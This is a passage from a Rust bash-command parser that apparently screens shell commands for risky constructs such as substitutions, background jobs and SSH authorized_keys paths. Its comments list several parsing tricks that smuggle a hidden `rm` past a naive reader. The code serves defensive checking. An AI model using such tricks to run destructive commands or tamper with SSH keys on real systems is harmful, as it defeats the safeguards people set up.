                Some(b'\\') if self.byte(self.pos + 1) == Some(b'\n') => self.pos += 2,
                _ => return,
            }
        }
    }

    fn lex(&mut self) -> Res<Tok> {
        self.skip_blanks();
        let Some(c) = self.byte(self.pos) else {
            return Ok(Tok::Eof);
        };
        let n1 = self.byte(self.pos + 1);
        let n2 = self.byte(self.pos + 2);
        let (op, len) = match c {
            b'#' => {
                while self.byte(self.pos).is_some_and(|b| b != b'\n') {
                    self.pos += 1;
                }
                return self.lex();
            }
            b'\n' => {
                self.pos += 1;
                self.read_heredocs()?;
                return Ok(Tok::Newline);
            }
            b'&' => match (n1, n2) {
                (Some(b'&'), _) => (Op::AndIf, 2),
                (Some(b'>'), Some(b'>')) => (Op::AndDGreat, 3),
                (Some(b'>'), _) => (Op::AndGreat, 2),
                _ => (Op::Amp, 1),
            },
            b'|' => match n1 {
                Some(b'|') => (Op::OrIf, 2),
                Some(b'&') => (Op::PipeAmp, 2),
                _ => (Op::Pipe, 1),
            },
            b';' => match (n1, n2) {
                (Some(b';'), Some(b'&')) => (Op::DSemiAmp, 3),
                (Some(b';'), _) => (Op::DSemi, 2),
                (Some(b'&'), _) => (Op::SemiAmp, 2),
                _ => (Op::Semi, 1),
            },
            b'(' => (Op::LParen, 1),
            b')' => (Op::RParen, 1),
            b'<' if n1 != Some(b'(') => match (n1, n2) {
                (Some(b'<'), Some(b'<')) => (Op::TLess, 3),
                (Some(b'<'), Some(b'-')) => (Op::DLessDash, 3),
                (Some(b'<'), _) => (Op::DLess, 2),
                (Some(b'&'), _) => (Op::LessAnd, 2),
                (Some(b'>'), _) => (Op::LessGreat, 2),
                _ => (Op::Less, 1),
            },
            b'>' if n1 != Some(b'(') => match n1 {
                Some(b'>') => (Op::DGreat, 2),
                Some(b'&') => (Op::GreatAnd, 2),
                Some(b'|') => (Op::Clobber, 2),
                _ => (Op::Great, 1),
            },
            _ => {
                if let Some(n) = self.io_number() {
                    return Ok(Tok::IoNumber(n));
                }
                let w = self.lex_word(false)?;
                return Ok(Tok::Word(w));
            }
        };
        self.pos += len;
        Ok(Tok::Op(op))
    }

    /// `2` in `2>file` or bash's `{fd}` in `{fd}>file`: a descriptor, not a word.
    fn io_number(&mut self) -> Option<String> {
        let start = self.pos;
        let mut end = start;
        if self.byte(start) == Some(b'{') {
            end += 1;
            while self
                .byte(end)
                .is_some_and(|b| b.is_ascii_alphanumeric() || b == b'_')
            {
                end += 1;
            }
            if end == start + 1 || self.byte(end) != Some(b'}') {
                return None;
            }
            end += 1;
        } else {
            while self.byte(end).is_some_and(|b| b.is_ascii_digit()) {
                end += 1;
            }
            if end == start {
                return None;
            }
        }
        if !matches!(self.byte(end), Some(b'<' | b'>')) || self.byte(end + 1) == Some(b'(') {
            return None;
        }
        self.pos = end;
        Some(String::from_utf8_lossy(&self.src[start..end]).into_owned())
    }

    /// Lexes one word. In `[[ … ]]` (`cond`), `&&`, `||`, `(`, `)`, `<`, `>`, `|` and `!`
    /// are part of words, as bash treats them there, and a `<(…)` or `>(…)` anywhere in a
    /// word is a process substitution; but a word that is `]]` so far ends before any of
    /// those, where bash's `]]` ends the conditional (`[[ a ]]&&rm x` runs `rm`).
    fn lex_word(&mut self, cond: bool) -> Res<Word> {
        let mut w = Word::new();
        let start = self.pos;
        while let Some(c) = self.byte(self.pos) {
            if cond && !w.quoted && w.text == b"]]" && b"&|()<>".contains(&c) {
                break;
            }
            match c {
                b' ' | b'\t' | b'\n' | b';' => break,
                b'&' if !cond || self.byte(self.pos + 1) != Some(b'&') => break,
                b'&' => {
                    w.push_unquoted(b'&');
                    w.push_unquoted(b'&');
                    self.pos += 2;
                }
                b'|' | b')' if !cond => break,
                b'(' if !cond => {
                    // bash array assignment `a=(x y)`: the list is part of the word.
                    if w.assign && w.text.last() == Some(&b'=') && !w.quoted {
                        self.array_value(&mut w)?;
                    } else {
                        break;
                    }
                }
                // Outside `[[ ]]` a `<` or `>` mid-word ends the word (and the lexer then
                // reads `<(` as a word of its own); inside, bash reads `x<(…)` and `x>(…)`
                // as a word with a process substitution in it, which runs.
                b'<' | b'>'
                    if (self.pos == start || cond) && self.byte(self.pos + 1) == Some(b'(') =>
                {
                    self.process_substitution(&mut w)?;
                }
                b'<' | b'>' if !cond => break,
                b'\\' => match self.byte(self.pos + 1) {
                    Some(b'\n') => self.pos += 2,
                    Some(n) => {
                        w.push_quoted(n);
                        self.pos += 2;
                    }
                    None => {
                        w.push_quoted(b'\\');
                        self.pos += 1;
                    }
                },
                b'\'' => {
                    let open = self.pos;
                    self.pos += 1;
                    let Some(len) = self.src[self.pos..].iter().position(|&b| b == b'\'') else {
                        return Err(self.unterminated("single quote", open));
                    };
                    w.quoted = true;
                    w.name_so_far = false;
                    for i in self.pos..self.pos + len {
                        w.push_quoted(self.src[i]);
                    }
                    self.pos += len + 1;
                }
                b'"' => self.double_quoted(&mut w)?,
                b'$' => self.dollar(&mut w, false)?,
                b'`' => self.backquoted(&mut w, false)?,
                _ => {
                    w.push_unquoted(c);
                    self.pos += 1;
                }
            }
        }
        self.check_word(&w);
        self.subscripts(&w.text)?;
        Ok(w)
    }

    /// `a=(x "y z" $(cmd))`: the elements are words of their own; they are lexed (so that
    /// substitutions inside are found) and appended as written.
    fn array_value(&mut self, w: &mut Word) -> Res<()> {
        let open = self.pos;
        self.pos += 1;
        self.enter()?;
        loop {
            while matches!(self.byte(self.pos), Some(b' ' | b'\t' | b'\n')) {
                self.pos += 1;
            }
            match self.byte(self.pos) {
                None => return Err(self.unterminated("array assignment", open)),
                Some(b')') => {
                    self.pos += 1;
                    break;
                }
                Some(_) => {
                    let before = self.pos;
                    self.lex_word(false)?;
                    if self.pos == before {
                        return Err(self.syntax("unexpected character in array assignment"));
                    }
                }
            }
        }
        self.leave();
        w.push_expansion(&self.src[open..self.pos]);
        Ok(())
    }

    fn double_quoted(&mut self, w: &mut Word) -> Res<()> {
        let open = self.pos;
        self.pos += 1;
        w.quoted = true;
        w.name_so_far = false;
        loop {
            let Some(c) = self.byte(self.pos) else {
                return Err(self.unterminated("double quote", open));
            };
            match c {
                b'"' => {
                    self.pos += 1;
                    return Ok(());
                }
                b'\\' => match self.byte(self.pos + 1) {
                    Some(b'\n') => self.pos += 2,
                    Some(n @ (b'$' | b'`' | b'"' | b'\\')) => {
                        w.push_quoted(n);
                        self.pos += 2;
                    }
                    _ => {
                        w.push_quoted(b'\\');
                        self.pos += 1;
                    }
                },
                b'$' => self.dollar(w, true)?,
                b'`' => self.backquoted(w, true)?,
                _ => {
                    w.push_quoted(c);
                    self.pos += 1;
                }
            }
        }
    }

    /// A `$` at `self.pos`: an expansion, ANSI-C quoting, or a literal dollar.
    fn dollar(&mut self, w: &mut Word, in_dquote: bool) -> Res<()> {
        let start = self.pos;
        match self.byte(self.pos + 1) {
            Some(b'\'') if !in_dquote => self.ansi_c(w),
            Some(b'"') if !in_dquote => {
                // bash's locale-translated string: a double-quoted string for our purpose.
                self.pos += 1;
                self.double_quoted(w)
            }
            Some(b'(') => {
                if self.byte(self.pos + 2) == Some(b'(') && self.is_arithmetic(self.pos + 3) {
                    self.pos += 3;
                    self.arithmetic(start, "arithmetic expansion", b"))")?;
                } else {
                    self.pos += 2;
                    self.substitution_body(start, "command substitution")?;
                }
                w.push_expansion(&self.src[start..self.pos]);
                Ok(())
            }
            // bash 5.3's `${ cmd; }` and `${| cmd; }` run commands up to a `}` reserved word;
            // bash 5.2 reads the same text as a parameter expansion that ends at the first `}`
            // (an error only if it is expanded), and the two disagree on where it ends:
            // `true || echo ${ #}; rm x; {⏎:⏎}` runs `rm` under 5.2 and nothing under 5.3.
            Some(b'{') if matches!(self.byte(self.pos + 2), Some(b' ' | b'\t' | b'\n' | b'|')) => {
                Err(CommandError::Syntax {
                    offset: self.base + start,
                    message: "`${ ` or `${|` (bash 5.3 runs commands there, bash 5.2 reads a parameter: they end it in different places)".into(),
                })
            }
            Some(b'[') => {
                self.pos += 2;
                self.arithmetic(start, "arithmetic expansion", b"]")?;
                w.push_expansion(&self.src[start..self.pos]);
                Ok(())
            }
            Some(b'{') => {
                self.pos += 2;
                self.enter()?;
                let mut scratch = Word::new();
                loop {
                    let Some(c) = self.byte(self.pos) else {
                        return Err(self.unterminated("parameter expansion", start));
                    };
                    match c {
                        b'}' => {
                            if parameter_evaluates(&self.src[start + 2..self.pos]) {
                                self.flag(CommandFlag::ArithmeticEval);
                            }
                            self.pos += 1;
                            break;
                        }
                        b'\\' => self.pos = (self.pos + 2).min(self.src.len()),
                        // Quoting for where the expansion ends, inside double quotes too:
                        // bash 5.2 reads `"${x:-'}'}"` to its second `}`, whatever the
                        // operator (it keeps the quotes in the value of some).
                        b'\'' => {
                            let open = self.pos;
                            self.pos += 1;
                            let Some(len) = self.src[self.pos..].iter().position(|&b| b == b'\'')
                            else {
                                return Err(self.unterminated("single quote", open));
                            };
                            self.pos += len + 1;
                        }
                        b'"' => self.double_quoted(&mut scratch)?,
                        b'$' => self.dollar(&mut scratch, in_dquote)?,
                        b'`' => self.backquoted(&mut scratch, in_dquote)?,
                        _ => self.pos += 1,
                    }
                }
                self.leave();
                w.push_expansion(&self.src[start..self.pos]);
                Ok(())
            }
            Some(c) if c.is_ascii_alphabetic() || c == b'_' => {
                self.pos += 1;
                while self
                    .byte(self.pos)
                    .is_some_and(|b| b.is_ascii_alphanumeric() || b == b'_')
                {
                    self.pos += 1;
                }
                w.push_expansion(&self.src[start..self.pos]);
                Ok(())
            }
            Some(c) if c.is_ascii_digit() || b"@*#?-$!".contains(&c) => {
                self.pos += 2;
                w.push_expansion(&self.src[start..self.pos]);
                Ok(())
            }
            _ => {
                if in_dquote {
                    w.push_quoted(b'$');
                } else {
                    w.push_unquoted(b'$');
                }
                self.pos += 1;
                Ok(())
            }
        }
    }

    /// Whether the text after `$((` (or a command-position `((`) closes with `))`, which
    /// makes it arithmetic; `$((cmd) | x)` is a command substitution of a subshell. A quick
    /// scan that balances parentheses and skips quotes; the real parse follows.
    fn is_arithmetic(&self, from: usize) -> bool {
        let mut depth = 0usize;
        let mut i = from;
        while let Some(c) = self.byte(i) {
            match c {
                b'(' => depth += 1,
                b')' if depth == 0 => return self.byte(i + 1) == Some(b')'),
                b')' => depth -= 1,
                b'\\' => i += 1,
                b'\'' | b'"' => match self.src[i + 1..].iter().position(|&b| b == c) {
                    Some(len) => i += len + 1,
                    None => return false,
                },
                _ => {}
            }
            i += 1;
        }
        false
    }

    /// The body of an arithmetic expansion or command, from after its opening to after its
    /// `close`: `))` for `((…))` and `$((…))`, `]` for bash's older `$[…]`. Its value is not a
    /// command, but substitutions inside it run.
    fn arithmetic(&mut self, start: usize, what: &'static str, close: &'static [u8]) -> Res<()> {
        self.enter()?;
        let body = self.pos;
        let (open, shut) = if close == b"]" {
            (b'[', b']')
        } else {
            (b'(', b')')
        };
        let mut depth = 0usize;
        let mut scratch = Word::new();
        loop {
            let Some(c) = self.byte(self.pos) else {
                return Err(self.unterminated(what, start));
            };
            match c {
                c if c == open => {
                    depth += 1;
                    self.pos += 1;
                }
                c if c == shut && depth == 0 => {
                    if !self.src[self.pos..].starts_with(close) {
                        return Err(self.syntax("expected `))`"));
                    }
                    if arith_refers(&self.src[body..self.pos]) {
                        self.flag(CommandFlag::ArithmeticEval);
                    }
                    self.pos += close.len();
                    break;
                }
                c if c == shut => {
                    depth -= 1;
                    self.pos += 1;
                }
                b'$' => self.dollar(&mut scratch, true)?,
                b'`' => self.backquoted(&mut scratch, true)?,
                b'"' => self.double_quoted(&mut scratch)?,
                b'\'' => {
                    let open = self.pos;
                    self.pos += 1;
                    let Some(len) = self.src[self.pos..].iter().position(|&b| b == b'\'') else {
                        return Err(self.unterminated("single quote", open));
                    };
                    self.pos += len + 1;
                }
                b'\\' => self.pos = (self.pos + 2).min(self.src.len()),
                _ => self.pos += 1,
            }
        }
        self.leave();
        Ok(())
    }

    /// The commands of `$(…)`, `<(…)` or `>(…)`, from after the `(` to after the `)`,
    /// parsed by the grammar on the same cursor.
    fn substitution_body(&mut self, start: usize, what: &'static str) -> Res<()> {
        self.flag(CommandFlag::CommandSubstitution);
        self.enter()?;
        self.level += 1;
        if self.pending.len() <= self.level {
            self.pending.resize_with(self.level + 1, Vec::new);
        }
        self.parse_list()?;
        match self.next()? {
            Tok::Op(Op::RParen) => {}
            Tok::Eof => return Err(self.unterminated(what, start)),
            tok => return Err(self.unexpected(&tok)),
        }
        self.level -= 1;
        self.leave();
        Ok(())
    }

    fn process_substitution(&mut self, w: &mut Word) -> Res<()> {
        let start = self.pos;
        self.pos += 2;
        self.substitution_body(start, "process substitution")?;
        w.push_expansion(&self.src[start..self.pos]);
        Ok(())
    }

    /// A backquoted command substitution. Its text is unescaped (`\$`, `` \` ``, `\\`,
    /// and `\"` inside double quotes) and parsed as a line of its own.
    fn backquoted(&mut self, w: &mut Word, in_dquote: bool) -> Res<()> {
        let start = self.pos;
        self.pos += 1;
        let mut inner = Vec::new();
        loop {
            let Some(c) = self.byte(self.pos) else {
                return Err(self.unterminated("backquote", start));
            };
            match c {
                b'`' => {
                    self.pos += 1;
                    break;
                }
                b'\\' => match self.byte(self.pos + 1) {
                    Some(n @ (b'$' | b'`' | b'\\')) => {
                        inner.push(n);
                        self.pos += 2;
                    }
                    Some(b'"') if in_dquote => {
                        inner.push(b'"');
                        self.pos += 2;
                    }
                    _ => {
                        inner.push(b'\\');
                        self.pos += 1;
                    }
                },
                _ => {
                    inner.push(c);
                    self.pos += 1;
                }
            }
        }
        self.flag(CommandFlag::CommandSubstitution);
        self.nested(&inner, true)?;
        w.push_expansion(&self.src[start..self.pos]);
        Ok(())
    }

    /// `$'…'`: decodes the escapes bash knows into bytes. Where the string ends is found first,
    /// as bash's lexer finds it: a backslash takes the byte after it whatever that is, so in
    /// `$'\c'` the first quote is taken by `\c`'s backslash and the second ends the string
    /// (decoding `\c` then reads no quote). A string that decodes to a NUL byte is refused:
    /// bash cuts the word there (`$'rm\0x'` runs `rm`).
    fn ansi_c(&mut self, w: &mut Word) -> Res<()> {
        let open = self.pos;
        let mut end = open + 2;
        loop {
            match self.byte(end) {
                None => return Err(self.unterminated("$'…' string", open)),
                Some(b'\'') => break,
                Some(b'\\') => end += 2,
                Some(_) => end += 1,
            }
        }
        let at = |pos: usize| if pos < end { self.byte(pos) } else { None };
        let decoded_from = w.text.len();
        let mut pos = open + 2;
        while pos < end {
            let c = self.src[pos];
            pos += 1;
            if c != b'\\' {
                w.push_quoted(c);
                continue;
            }
            // Inside the string a backslash always has its byte (see above).
            let e = self.src[pos];
            pos += 1;
            let simple = match e {
                b'a' => Some(7),
                b'b' => Some(8),
                b'e' | b'E' => Some(27),
                b'f' => Some(12),
                b'n' => Some(b'\n'),
                b'r' => Some(b'\r'),
                b't' => Some(b'\t'),
                b'v' => Some(11),
                b'\\' | b'\'' | b'"' | b'?' => Some(e),
                _ => None,
            };
            if let Some(b) = simple {
                w.push_quoted(b);
                continue;
            }
            match e {
                b'0'..=b'7' => {
                    let mut v = u32::from(e - b'0');
                    for _ in 0..2 {
                        match at(pos) {
                            Some(d @ b'0'..=b'7') => {
                                v = v * 8 + u32::from(d - b'0');
                                pos += 1;
                            }
                            _ => break,
                        }
                    }
                    w.push_quoted((v & 0xff) as u8);
                }
                b'x' | b'u' | b'U' => {
                    let max = match e {
                        b'x' => 2,
                        b'u' => 4,
                        _ => 8,
                    };
                    let mut v: u32 = 0;
                    let mut n = 0;
                    while n < max {
                        match at(pos).and_then(|d| (d as char).to_digit(16)) {
                            Some(d) => {
                                v = v.wrapping_mul(16).wrapping_add(d);
                                pos += 1;
                                n += 1;
                            }
                            None => break,
                        }
                    }
                    if n == 0 {
                        w.push_quoted(b'\\');
                        w.push_quoted(e);
                    } else if e == b'x' {
                        w.push_quoted(v as u8);
                    } else {
                        let ch = char::from_u32(v).unwrap_or(char::REPLACEMENT_CHARACTER);
                        let mut buf = [0u8; 4];
                        for &b in ch.encode_utf8(&mut buf).as_bytes() {
                            w.push_quoted(b);
                        }
                    }
                }
                // `\cX` is control-X; `\c\\` is control-backslash, both backslashes taken.
                b'c' => match at(pos) {
                    Some(x) => {
                        pos += 1;
                        if x == b'\\' && at(pos) == Some(b'\\') {
                            pos += 1;
                        }
                        w.push_quoted(x & 0x1f);
                    }
                    None => {
                        return Err(CommandError::Syntax {
                            offset: self.base + open,
                            message: "a $'…' string ends in \\c, which controls no character"
                                .into(),
                        })
                    }
                },
                other => {
                    w.push_quoted(b'\\');
                    w.push_quoted(other);
                }
            }
        }
        self.pos = end + 1;
        if w.text[decoded_from..].contains(&0) {
            return Err(CommandError::Syntax {
                offset: self.base + open,
                message: "a $'…' string decodes to a NUL byte, where bash cuts the word".into(),
            });
        }
        Ok(())
    }

    /// Reads the bodies of the here-documents declared at the current substitution level;
    /// called right after a newline token.
    fn read_heredocs(&mut self) -> Res<()> {
        let Some(list) = self.pending.get_mut(self.level) else {
            return Ok(());
        };
        let list = std::mem::take(list);
        for h in list {
            let mut body = Vec::new();
            while self.pos < self.src.len() {
                let end = self.src[self.pos..]
                    .iter()
                    .position(|&b| b == b'\n')
                    .map_or(self.src.len(), |n| self.pos + n);
                let mut line = &self.src[self.pos..end];
                self.pos = (end + 1).min(self.src.len());
                if h.strip_tabs {
                    while let Some(rest) = line.strip_prefix(b"\t") {
                        line = rest;
                    }
                }
                if line == h.delimiter.as_slice() {
                    break;
                }
                body.extend_from_slice(line);
                body.push(b'\n');
            }
            if !h.quoted {
                // An unquoted delimiter means the body is expanded: substitutions in it run.
                self.expand_only(&body)?;
            }
            if let Some(slot) = self.bodies.get_mut(h.slot) {
                *slot = Some(body);
            }
        }
        Ok(())
    }

    /// Finds the expansions in a text that undergoes expansion but not parsing (an
    /// unquoted here-document body).
    fn expand_only(&mut self, text: &[u8]) -> Res<()> {
        if !text.iter().any(|&b| b == b'$' || b == b'`') {
            return Ok(());
        }
        if self.depth >= MAX_DEPTH {
            return Err(CommandError::TooDeep(MAX_DEPTH));
        }
        let base = self.base + self.pos;
        let piped = self.piped;
        let mut p = Parser::new(text, base, self.depth + 1, &mut *self.out, piped);
        let mut scratch = Word::new();
        let mut result = Ok(());
        while let Some(c) = p.byte(p.pos) {
            result = match c {
                b'\\' => {
                    p.pos += 2;
                    Ok(())
                }
                b'$' => p.dollar(&mut scratch, true),
                b'`' => p.backquoted(&mut scratch, true),
                _ => {
                    p.pos += 1;
                    Ok(())
                }
            };
            if result.is_err() {
                break;
            }
        }
        match result {
            Err(
                e @ (CommandError::TooDeep(_)
                | CommandError::TooManyWords(_)
                | CommandError::TooMuchNested(_)
                | CommandError::LocaleDependent(_)),
            ) => Err(e),
            Err(_) => {
                self.flag(CommandFlag::Unparsed);
                Ok(())
            }
            Ok(()) => Ok(()),
        }
    }

    /// Flags a word that names authorized_keys, whether literally or through a glob.
    fn check_word(&mut self, w: &Word) {
        let text = w.string();
        let keys = text.contains("authorized_keys")
            || (w.glob
                && pattern_components(w).any(|c| {
                    ((glob_match(&c, "authorized_keys") || glob_match(&c, "authorized_keys2"))
                        && literal_chars(&c) >= 3)
                        || (c.starts_with('.') && glob_match(&c, ".ssh") && c != ".ssh")
                }));
        if keys {
            self.flag(CommandFlag::AuthorizedKeys);
        }
    }

    // --- grammar ------------------------------------------------------------------------

    fn skip_newlines(&mut self) -> Res<()> {
        while matches!(self.peek()?, Tok::Newline) {
            self.next()?;
        }
        Ok(())
    }

    /// A list of and-or lists separated by `;`, `&` or newlines. Stops (without consuming)
    /// at the end of the text, at `)`, at a `case` item terminator or at a reserved word
    /// that ends a list; the caller checks that what follows is what it expects.
    fn parse_list(&mut self) -> Res<()> {
        loop {
            self.skip_newlines()?;
            match self.peek()? {
                Tok::Eof | Tok::Op(Op::RParen | Op::DSemi | Op::SemiAmp | Op::DSemiAmp) => {
                    return Ok(())
                }
                Tok::Word(w) if w.reserved().is_some_and(|r| LIST_END.contains(&r)) => {
                    return Ok(())
                }
                _ => {}
            }
            self.parse_and_or()?;
            match self.peek()? {
                Tok::Op(Op::Semi) => {
                    self.next()?;
                }
                Tok::Op(Op::Amp) => {
                    self.next()?;
                    self.flag(CommandFlag::Background);
                }
                Tok::Newline => {}
                _ => return Ok(()),
            }
        }
    }

    fn parse_and_or(&mut self) -> Res<()> {
        self.parse_pipeline()?;
        while self.peek_op(Op::AndIf)? || self.peek_op(Op::OrIf)? {
            self.next()?;
            self.skip_newlines()?;
            self.parse_pipeline()?;
        }
        Ok(())
    }

    fn parse_pipeline(&mut self) -> Res<()> {
        while self.peek_reserved()? == Some("!") {
            self.next()?;
        }
        let mut position = 0usize;
        loop {
            let saved = self.piped;
            self.piped = saved || position > 0;
            let result = self.parse_command();
            self.piped = saved;
            result?;
            if self.peek_op(Op::Pipe)? || self.peek_op(Op::PipeAmp)? {
                self.next()?;
                self.skip_newlines()?;
                position += 1;
            } else {
                return Ok(());
            }
        }
    }

    fn expect_reserved(&mut self, word: &'static str) -> Res<()> {
        match self.next()? {
            Tok::Word(w) if w.is(word) => Ok(()),
            Tok::Eof => Err(self.syntax(format!("expected `{word}` before the end of line"))),
            tok => Err(self.unexpected(&tok)),
        }
    }

    fn parse_command(&mut self) -> Res<()> {
        if matches!(self.peek()?, Tok::Word(w) if w.text == b"coproc" && !w.quoted && !w.expanded) {
            return self.coproc();
        }
        let reserved = match self.peek()? {
            Tok::Op(Op::LParen) => {
                self.next()?;
                // bash's arithmetic command `(( … ))`.
                if self.byte(self.pos) == Some(b'(') && self.is_arithmetic(self.pos + 1) {
                    let start = self.pos;
                    self.pos += 1;
                    self.arithmetic(start, "arithmetic command", b"))")?;
                } else {
                    self.enter()?;
                    self.parse_list()?;
                    match self.next()? {
                        Tok::Op(Op::RParen) => {}
                        Tok::Eof => return Err(self.syntax("unterminated subshell `(`")),
                        tok => return Err(self.unexpected(&tok)),
                    }
                    self.leave();
                }
                return self.trailing_redirects();
            }
            Tok::Word(w) => w.reserved(),
            Tok::IoNumber(_) | Tok::Op(_) => None,
            Tok::Newline | Tok::Eof => {
                let tok = self.next()?;
                return Err(self.unexpected(&tok));
            }
        };
        match reserved {
            None | Some("in") | Some("]]") => self.simple_command(),
            Some(word) => {
                self.next()?;
                self.enter()?;
                self.compound(word)?;
                self.leave();
                self.trailing_redirects()
            }
        }
    }

    /// bash's `coproc [NAME] command`: the command runs asynchronously, its input and output
    /// connected to the shell. `coproc` is listed as a command of its own (so a rule can name
    /// it), then the command it runs. A NAME is only taken before a compound command; before
    /// anything else the word after `coproc` is the program of a simple command
    /// (`coproc rm x` runs `rm`).
    fn coproc(&mut self) -> Res<()> {
        let Tok::Word(coproc) = self.next()? else {
            unreachable!("parse_command peeked a word");
        };
        self.analyze(Vec::new(), std::slice::from_ref(&coproc), &[])?;
        self.flag(CommandFlag::Background);
        self.enter()?;
        let starts_compound = |tok: &Tok| match tok {
            Tok::Op(Op::LParen) => true,
            Tok::Word(w) => matches!(
                w.reserved(),
                Some("{" | "if" | "while" | "until" | "for" | "select" | "case" | "[[")
            ),
            _ => false,
        };
        let result = if starts_compound(self.peek()?) {
            self.parse_command()
        } else if matches!(self.peek()?, Tok::Word(w) if w.reserved().is_none()) {
            let Tok::Word(first) = self.next()? else {
                unreachable!("a word was peeked");
            };
            if starts_compound(self.peek()?) {
                self.parse_command()
            } else {
                self.simple_command_from(vec![first])
            }
        } else {
            self.parse_command()
        };
        self.leave();
        result
    }

    fn compound(&mut self, word: &'static str) -> Res<()> {
        match word {
            "{" => {
                self.parse_list()?;
                self.expect_reserved("}")
            }
            "if" => {
                self.parse_list()?;
                self.expect_reserved("then")?;
                self.parse_list()?;
                loop {
                    match self.peek_reserved()? {
                        Some("elif") => {
                            self.next()?;
                            self.parse_list()?;
                            self.expect_reserved("then")?;
                            self.parse_list()?;
                        }
                        Some("else") => {
                            self.next()?;
                            self.parse_list()?;
                        }
                        _ => break,
                    }
                }
                self.expect_reserved("fi")
            }
            "while" | "until" => {
                self.parse_list()?;
                self.expect_reserved("do")?;
                self.parse_list()?;
                self.expect_reserved("done")
            }
            "for" | "select" => self.for_loop(),
            "case" => self.case(),
            "function" => {
                match self.next()? {
                    Tok::Word(_) => {}
                    tok => return Err(self.unexpected(&tok)),
                }
                if self.peek_op(Op::LParen)? {
                    self.next()?;
                    match self.next()? {
                        Tok::Op(Op::RParen) => {}
                        tok => return Err(self.unexpected(&tok)),
                    }
                }
                self.skip_newlines()?;
                self.parse_command()
            }
            "[[" => self.conditional(),
            "!" => Err(self.syntax("`!` in the middle of a pipeline")),
            other => Err(self.syntax(format!("unexpected `{other}`"))),
        }
    }

    fn for_loop(&mut self) -> Res<()> {
        if self.peek_op(Op::LParen)? {
            // bash's `for ((init; cond; step))`.
            self.next()?;
            if self.byte(self.pos) != Some(b'(') {
                return Err(self.syntax("expected `((` after `for`"));
            }
            let start = self.pos;
            self.pos += 1;
            self.arithmetic(start, "arithmetic for", b"))")?;
        } else {
            match self.next()? {
                Tok::Word(_) => {}
                tok => return Err(self.unexpected(&tok)),
            }
            self.skip_newlines()?;
            if self.peek_reserved()? == Some("in") {
                self.next()?;
                while let Tok::Word(_) = self.peek()? {
                    self.next()?;
                }
            }
        }
        if self.peek_op(Op::Semi)? {
            self.next()?;
        }
        self.skip_newlines()?;
        if self.peek_reserved()? == Some("{") {
            self.next()?;
            self.parse_list()?;
            return self.expect_reserved("}");
        }
        self.expect_reserved("do")?;
        self.parse_list()?;
        self.expect_reserved("done")
    }

    fn case(&mut self) -> Res<()> {
        match self.next()? {
            Tok::Word(_) => {}
            tok => return Err(self.unexpected(&tok)),
        }
        self.skip_newlines()?;
        self.expect_reserved("in")?;
        loop {
            self.skip_newlines()?;
            if self.peek_reserved()? == Some("esac") {
                self.next()?;
                return Ok(());
            }
            if self.peek_op(Op::LParen)? {
                self.next()?;
            }
            loop {
                match self.next()? {
                    Tok::Word(_) => {}
                    Tok::Eof => return Err(self.syntax("unterminated `case`")),
                    tok => return Err(self.unexpected(&tok)),
                }
                match self.next()? {
                    Tok::Op(Op::Pipe) => {}
                    Tok::Op(Op::RParen) => break,
                    tok => return Err(self.unexpected(&tok)),
                }
            }
            self.parse_list()?;
            match self.peek()? {
                Tok::Op(Op::DSemi | Op::SemiAmp | Op::DSemiAmp) => {
                    self.next()?;
                }
                Tok::Word(w) if w.is("esac") => {}
                Tok::Eof => return Err(self.syntax("unterminated `case`")),
                _ => {
                    let tok = self.next()?;
                    return Err(self.unexpected(&tok));
                }
            }
        }
    }

    /// `[[ … ]]`: words up to `]]`. It runs no program, but substitutions inside do.
    fn conditional(&mut self) -> Res<()> {
        let start = self.pos;
        let mut words: Vec<Word> = Vec::new();
        loop {
            while matches!(self.byte(self.pos), Some(b' ' | b'\t' | b'\n')) {
                self.pos += 1;
            }
            match self.byte(self.pos) {
                None => return Err(self.unterminated("[[", start)),
                // A comment, as bash reads one there: to the end of the line.
                Some(b'#') => {
                    while self.byte(self.pos).is_some_and(|b| b != b'\n') {
                        self.pos += 1;
                    }
                    continue;
                }
                Some(b';') => return Err(self.syntax("unexpected `;` in `[[ ]]`")),
                Some(b'&') if self.byte(self.pos + 1) != Some(b'&') => {
                    return Err(self.syntax("unexpected `&` in `[[ ]]`"))
                }
                Some(_) => {}
            }
            let before = self.pos;
            let w = self.lex_word(true)?;
            if self.pos == before {
                return Err(self.syntax("unexpected character in `[[ ]]`"));
            }
            if w.is("]]") {
                self.conditional_evaluates(&words);
                return Ok(());
            }
            words.push(w);
        }
    }

    /// Operands of `[[ … ]]` that bash evaluates: both sides of an arithmetic comparison, and
    /// the name after `-v`.
    fn conditional_evaluates(&mut self, words: &[Word]) {
        let unquoted = |w: &Word, ops: &[&[u8]]| !w.quoted && ops.contains(&w.text.as_slice());
        for (k, w) in words.iter().enumerate() {
            let evaluates = if unquoted(w, &[b"-eq", b"-ne", b"-lt", b"-le", b"-gt", b"-ge"]) {
                [k.checked_sub(1), Some(k + 1)]
                    .into_iter()
                    .flatten()
                    .filter_map(|i| words.get(i))
                    .any(|o| arith_refers(&o.text))
            } else if unquoted(w, &[b"-v"]) {
                words.get(k + 1).is_some_and(|o| name_evaluates(&o.text))
            } else {
                false
            };
            if evaluates {
                self.flag(CommandFlag::ArithmeticEval);
            }
        }
    }

    /// Redirections after a compound command (`done < file`, `} > out`): they are checked
    /// like those of a simple command.
    fn trailing_redirects(&mut self) -> Res<()> {
        loop {
            let io = match self.peek()? {
                Tok::IoNumber(_) => match self.next()? {
                    Tok::IoNumber(n) => Some(n),
                    _ => None,
                },
                Tok::Op(op) if op.redirect().is_some() => None,
                _ => return Ok(()),
            };
            self.redirect(io)?;
        }
    }

    /// A redirection: the operator (after an optional descriptor) and its target.
    fn redirect(&mut self, io: Option<String>) -> Res<RedirInfo> {
        let op = match self.next()? {
            Tok::Op(op) if op.redirect().is_some() => op,
            tok => return Err(self.unexpected(&tok)),
        };
        let target = match self.next()? {
            Tok::Word(w) => w,
            tok => return Err(self.unexpected(&tok)),
        };
        let fd = io
            .as_deref()
            .unwrap_or(if op.reads_input() { "0" } else { "1" });
        let stdin = fd == "0" && op.reads_input();
        let body = match op {
            Op::DLess | Op::DLessDash => {
                let slot = self.bodies.len();
                self.bodies.push(None);
                if self.pending.len() <= self.level {
                    self.pending.resize_with(self.level + 1, Vec::new);
                }
                self.pending[self.level].push(PendingHeredoc {
                    delimiter: target.text.clone(),
                    strip_tabs: op == Op::DLessDash,
                    quoted: target.quoted,
                    slot,
                });
                Body::Slot(slot)
            }
            Op::TLess => {
                let mut text = target.text.clone();
                text.push(b'\n');
                Body::Text(text)
            }
            _ => Body::None,
        };
        let target_text = target.string();
        let dup = matches!(op, Op::GreatAnd | Op::LessAnd)
